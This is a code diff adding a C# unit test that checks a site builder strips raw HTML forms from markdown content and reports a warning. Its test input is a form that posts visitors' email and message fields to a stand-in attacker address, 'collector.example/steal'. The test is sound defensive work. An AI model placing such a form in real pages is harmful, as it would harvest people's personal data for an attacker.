@@ -47,6 +47,25 @@ public sealed class EscapingTests(ThreeLanguageSite site) : IClassFixture<ThreeL
     }
 
     [Fact]
+    public void Raw_html_forms_and_their_fields_are_removed_with_a_warning()
+    {
+        using var fixture = FixtureSite.Copy("three-languages");
+        fixture.Write("content/sectors/electronics/en.md",
+            "Write to us.\n\n<form action=\"https://collector.example/steal\" method=\"post\"><label>Mail</label>\n" +
+            "<input name=\"email\"> <textarea name=\"message\"></textarea> <select name=\"topic\"><option>Land</option></select>\n" +
+            "<button type=\"submit\">Send</button></form>\n\n<b>kept</b>\n");
+        var built = fixture.BuildSuccessfully();
+        var body = built.Page("en/sectors/electronics/index.html").QuerySelector("#body")!;
+        Assert.Empty(body.QuerySelectorAll("form, input, textarea, select, option, button, [action]"));
+        Assert.Equal("kept", body.QuerySelector("b")!.TextContent);
+
+        var warning = Assert.Single(built.Result.Diagnostics);
+        Assert.Equal((DiagnosticCodes.RawHtmlRemoved, new SourceLocation("content/sectors/electronics/en.md", 3, 1)),
+            (warning.Code, warning.Location));
+        Assert.StartsWith("raw HTML that is not allowed was removed from the page: <form>", warning.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void An_iframe_is_kept_only_from_a_host_that_site_yaml_lists()
     {
         using var fixture = FixtureSite.Copy("three-languages");
